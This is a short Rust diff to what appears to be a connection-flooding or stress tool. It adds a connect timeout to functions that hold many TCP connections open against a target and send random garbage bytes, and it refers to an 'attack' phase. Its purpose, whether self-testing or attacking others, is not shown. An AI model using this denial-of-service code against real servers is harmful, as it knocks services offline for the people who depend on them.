@@ -27,6 +27,8 @@ const SOURCES_MAX: usize = 2_000;
 const PACE: Duration = Duration::from_millis(2);
 /// Between two connections of those who hold all that they can: what is let go is not for the others to live on.
 const RENEWAL: Duration = Duration::from_millis(500);
+/// Where the route's backlog is full, the kernel would try for two minutes.
+const CONNECT_TIMEOUT: Duration = Duration::from_millis(200);
 /// After the attack, for what is under way.
 const GRACE: Duration = Duration::from_secs(5);
 
@@ -130,7 +132,7 @@ fn swallow(socket: &UdpSocket, until: Instant) {
 fn hold_connections(addr: SocketAddr, until: Instant, max: usize, first: &[u8]) -> usize {
     let (mut held, mut made) = (VecDeque::new(), 0);
     while Instant::now() < until {
-        if let Ok(mut stream) = TcpStream::connect(addr) {
+        if let Ok(mut stream) = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT) {
             stream.write_all(first).ok();
             held.push_back(stream);
             made += 1;
@@ -148,7 +150,7 @@ fn hold_connections(addr: SocketAddr, until: Instant, max: usize, first: &[u8]) 
 fn send_garbage(addr: SocketAddr, until: Instant, dice: &mut Dice) -> usize {
     let mut made = 0;
     while Instant::now() < until {
-        if let Ok(mut stream) = TcpStream::connect(addr) {
+        if let Ok(mut stream) = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT) {
             let length = dice.below(4_096);
             stream.write_all(&dice.bytes(length)).ok();
             let reset = (dice.below(2) == 0).then_some(Duration::ZERO);
